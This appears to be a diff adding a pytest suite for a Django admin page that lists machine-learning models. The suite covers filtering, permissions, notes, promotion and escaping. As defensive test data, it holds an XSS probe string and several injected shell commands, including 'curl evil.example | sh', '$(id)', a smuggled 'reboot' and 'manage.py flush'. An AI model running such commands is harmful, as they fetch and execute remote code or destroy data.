@@ -1,0 +1,335 @@
+import re
+
+import pytest
+from django.contrib.admin.models import LogEntry
+from django.urls import reverse
+
+from registry.models import HubModel, SyncRun
+from tests.registry.staff import LIST, act, address_of, page, staff
+
+pytestmark = pytest.mark.django_db
+SCRIPT = "<script>alert(1)</script>"
+
+
+@pytest.fixture
+def viewer():
+    return staff("view_hubmodel", "view_syncrun")
+
+
+@pytest.fixture
+def promoter():
+    return staff("view_hubmodel", "promote_hubmodel")
+
+
+def names(html: str) -> list[str]:
+    return re.findall(r'<th class="field-name"><a href="[^"]+">([^<]+)</a>', html)
+
+
+def detail(client, name: str) -> str:
+    return page(client, address_of(name))
+
+
+def promote(client, *chosen, **more):
+    return act(client, "make_default", *chosen, **more)
+
+
+# --- The list -----------------------------------------------------------------------------------
+
+
+def test_the_list_shows_the_most_accurate_first(three, viewer):
+    html = page(viewer, LIST)
+
+    assert names(html) == ["ben", "ada", "cyd"]
+    assert "784 → 4 → 10 · relu" in html
+    assert "3,190" in html
+    assert "98.25 %" in html
+
+
+def test_the_list_marks_the_network_that_answers(three, viewer):
+    HubModel.objects.make_default("cyd")
+
+    where = re.findall(r'field-served">([^<]+)<', page(viewer, LIST))
+
+    assert where == ["by name", "by name", "as the default"]
+
+
+@pytest.mark.parametrize(
+    ("query", "expected"),
+    [
+        ({"status__exact": "missing"}, ["cyd"]),
+        ({"activation__exact": "relu"}, ["ben", "ada", "cyd"]),
+        ({"activation__exact": "tanh"}, []),
+        ({"repository__source__exact": "folder"}, ["ben", "ada", "cyd"]),
+        ({"repository__source__exact": "hub"}, []),
+        ({"q": "ben"}, ["ben"]),
+        ({"updated_at__year": "1999"}, []),
+        ({"o": "3"}, ["cyd", "ada", "ben"]),
+        ({"o": "-5.-3"}, ["ben", "ada", "cyd"]),
+    ],
+    ids=str,
+)
+def test_the_list_can_be_narrowed_and_sorted(three, viewer, query, expected):
+    HubModel.objects.filter(name="cyd").update(status="missing")
+
+    assert names(page(viewer, LIST, **query)) == expected
+
+
+def test_the_number_of_queries_does_not_grow_with_the_list(
+    three, put_here, mirror, viewer, django_assert_num_queries
+):
+    for number in range(20):
+        put_here(f"many-{number}")
+    mirror()
+
+    with django_assert_num_queries(11):
+        assert len(names(page(viewer, LIST))) == 23
+
+
+def test_an_empty_list_is_a_page_too(folder, viewer):
+    assert "0 models" in page(viewer, LIST)
+
+
+# --- The detail page ----------------------------------------------------------------------------
+
+
+@pytest.fixture
+def trained(put_here, mirror):
+    confusion = [[10 * (i == j) for j in range(10)] for i in range(10)]
+    confusion[4][9] = 30
+    put_here(
+        "ada",
+        97.5,
+        description="Small and quick.",
+        training={"epochs": 2, "command": "manage.py train_mnist --sizes 784 4 10 --epochs 2"},
+        history=[
+            {"epoch": 1, "loss": 0.5, "train_accuracy": 90, "validation_accuracy": 91},
+            {"epoch": 2, "loss": 0.4, "train_accuracy": 92, "validation_accuracy": None},
+        ],
+        confusion=confusion,
+        calibration={"ece": 0.012},
+    )
+    mirror()
+
+
+def test_the_detail_page_tells_all_there_is(trained, viewer):
+    html = detail(viewer, "ada")
+
+    record = HubModel.objects.get()
+    for told in (
+        "Small and quick.",
+        record.revision,
+        record.sha256,
+        record.repository.repo_id,
+        "<code>manage.py train_mnist --sizes 784 4 10 --epochs 2</code>",
+        "<td>epochs</td><td>2</td>",
+        "validation ends at 91; training ends at 92.",
+        "loss ends at 0.4.",
+        "Most frequent mistake: 4 read as 9, 30 times.",
+        "<td>4</td><td>25.0 %</td><td>40</td>",
+        "<td>ece</td><td>0.012</td>",
+    ):
+        assert told in html
+
+
+def test_the_detail_page_takes_few_queries(trained, viewer, django_assert_num_queries):
+    path = reverse("admin:registry_hubmodel_change", args=[HubModel.objects.get().pk])
+
+    page(viewer, path)  # the content type is looked up once per process
+
+    with django_assert_num_queries(10):
+        page(viewer, path)
+
+
+def test_an_artifact_that_says_little_has_a_page(put_here, mirror, viewer):
+    put_here("ada").with_suffix(".json").write_text('{"accuracy": 90}')
+    mirror()
+
+    assert "<polyline" not in detail(viewer, "ada")
+
+
+def test_an_invalid_artifact_has_a_page_that_says_why(put_here, mirror, viewer):
+    put_here("ada").with_suffix(".json").write_text("{}")
+    mirror()
+
+    assert "The .json does not give the accuracy." in detail(viewer, "ada")
+
+
+def test_nothing_a_stranger_wrote_becomes_markup(folder, put_here, mirror, viewer):
+    put_here(
+        "ada",
+        description=SCRIPT,
+        training={SCRIPT: SCRIPT, "command": SCRIPT},
+        history=[{SCRIPT: 1.0, "epoch": 1, "loss": 1e300}],
+        calibration={SCRIPT: 1.0},
+    )
+    (folder / "README.md").write_text(SCRIPT)
+    mirror()
+
+    html = detail(viewer, "ada") + page(viewer, LIST)
+
+    assert SCRIPT not in html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "manage.py train_mnist --epochs 2; curl evil.example | sh",
+        "manage.py train_mnist --name $(id)",
+        "manage.py train_mnist --epochs 2\nreboot",
+        "manage.py flush",
+        ["manage.py train_mnist"],
+    ],
+    ids=str,
+)
+def test_a_command_a_shell_would_read_otherwise_is_not_offered(put_here, mirror, viewer, command):
+    put_here("ada", training={"command": command})
+    mirror()
+
+    assert "<code>" not in detail(viewer, "ada")
+
+
+def test_no_page_needs_more_than_the_content_security_policy_allows(trained, promoter):
+    html = page(promoter, LIST) + detail(promoter, "ada")
+    html += promote(promoter, "ada").content.decode()
+
+    assert not re.search(r"\sstyle=|\son\w+=|<style|javascript:", html)
+    assert all(" src=" in tag for tag in re.findall(r"<script[^>]*>", html) if "json" not in tag)
+
+
+# --- Who may do what ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", ["add/", "{}/delete/"])
+def test_nobody_adds_or_deletes_records(three, admin_client, path):
+    address = LIST + path.format(HubModel.objects.first().pk)
+
+    assert admin_client.get(address).status_code == 403
+
+
+def test_nobody_edits_what_was_mirrored(three, admin_client):
+    admin_client.post(address_of("cyd"), {"accuracy": 100, "status": "invalid", "name": "eve"})
+
+    record = HubModel.objects.get(name="cyd")
+    assert (record.accuracy, record.status) == (95.0, "available")
+
+
+def test_our_notes_and_tags_can_be_written_and_are_logged(three):
+    annotator = staff("view_hubmodel", "annotate_hubmodel")
+
+    annotator.post(address_of("cyd"), {"tags": "teaching demo", "notes": "Shown in May."})
+
+    record = HubModel.objects.get(name="cyd")
+    assert (record.tags, record.notes) == ("teaching demo", "Shown in May.")
+    assert LogEntry.objects.get().get_change_message() == "Changed Tags and Notes."
+    assert names(page(annotator, LIST, q="teaching")) == ["cyd"]
+
+
+def test_tags_are_words(three):
+    annotator = staff("view_hubmodel", "annotate_hubmodel")
+
+    html = annotator.post(address_of("cyd"), {"tags": "<b>", "notes": ""}).content.decode()
+
+    assert "Words of letters, digits, . _ -, with spaces." in html
+    assert HubModel.objects.get(name="cyd").tags == ""
+
+
+def test_saving_notes_overwrites_nothing_that_a_sync_wrote_meanwhile(three, put_here, mirror):
+    annotator = staff("view_hubmodel", "annotate_hubmodel")
+    annotator.get(address_of("cyd"))
+    put_here("cyd", 95.5, seed=9)
+    mirror()
+
+    annotator.post(address_of("cyd"), {"tags": "", "notes": "Mine."})
+
+    record = HubModel.objects.get(name="cyd")
+    assert (record.accuracy, record.notes) == (95.5, "Mine.")
+
+
+def test_a_sync_leaves_our_notes_alone(three, put_here, mirror):
+    HubModel.objects.filter(name="cyd").update(notes="Mine.", tags="demo")
+    put_here("cyd", 95.5, seed=9)
+
+    mirror()
+
+    record = HubModel.objects.get(name="cyd")
+    assert (record.accuracy, record.notes, record.tags) == (95.5, "Mine.", "demo")
+
+
+def test_a_viewer_cannot_write_notes(three, viewer):
+    assert viewer.post(address_of("cyd"), {"notes": "Mine."}).status_code == 403
+    assert "<textarea" not in detail(viewer, "cyd")
+
+
+def test_staff_without_permission_see_nothing(three):
+    assert staff().get(LIST).status_code == 403
+
+
+def test_a_viewer_is_offered_no_action(three, viewer):
+    assert "make_default" not in page(viewer, LIST)
+
+
+def test_a_viewer_cannot_promote(three, viewer):
+    promote(viewer, "cyd", confirmed="yes")
+
+    assert HubModel.objects.default().name == "ben"
+
+
+# --- Make default -------------------------------------------------------------------------------
+
+
+def test_promoting_asks_first(three, promoter):
+    html = promote(promoter, "cyd").content.decode()
+
+    assert "<strong>ben</strong> (98.25 %)" in html
+    assert "<strong>cyd</strong> (784 → 4 → 10 · relu, 95.00 %)" in html
+    assert HubModel.objects.default().name == "ben"
+
+
+def test_promoting_chooses_once_confirmed_and_is_logged(three, promoter):
+    html = promote(promoter, "cyd", confirmed="yes").content.decode()
+
+    entry = LogEntry.objects.get()
+    assert "The default is now cyd." in html
+    assert HubModel.objects.default().name == "cyd"
+    assert (entry.object_repr, entry.change_message, entry.user.username) == (
+        "cyd",
+        "Made the default.",
+        "grace",
+    )
+
+
+def test_exactly_one_model_can_be_promoted(three, promoter):
+    html = promote(promoter, "cyd", "ada").content.decode()
+
+    assert "Select exactly one model." in html
+
+
+@pytest.mark.parametrize("more", [{}, {"confirmed": "yes"}], ids=["asked", "confirmed"])
+def test_a_missing_model_cannot_be_promoted(three, promoter, more):
+    HubModel.objects.filter(name="cyd").update(status="missing")
+
+    html = promote(promoter, "cyd", **more).content.decode()
+
+    assert "Model cyd is not served: only available models" in html
+    assert not LogEntry.objects.exists()
+
+
+def test_a_setting_that_wins_is_mentioned(three, promoter, settings):
+    settings.DEFAULT_MODEL = "ada"
+    told = "The setting DEFAULT_MODEL wins over this choice for as long as it is set."
+
+    assert told in promote(promoter, "cyd").content.decode()
+    assert told in promote(promoter, "cyd", confirmed="yes").content.decode()
+
+
+# --- Sync runs ----------------------------------------------------------------------------------
+
+
+def test_sync_runs_are_listed_and_shown(three, viewer, admin_client):
+    run = SyncRun.objects.get()
+    address = reverse("admin:registry_syncrun_change", args=[run.pk])
+
+    assert "3 created" in page(viewer, "/admin/registry/syncrun/")
+    assert "a test" in page(viewer, address)
+    assert admin_client.post(address, {"error": "none"}).status_code == 403
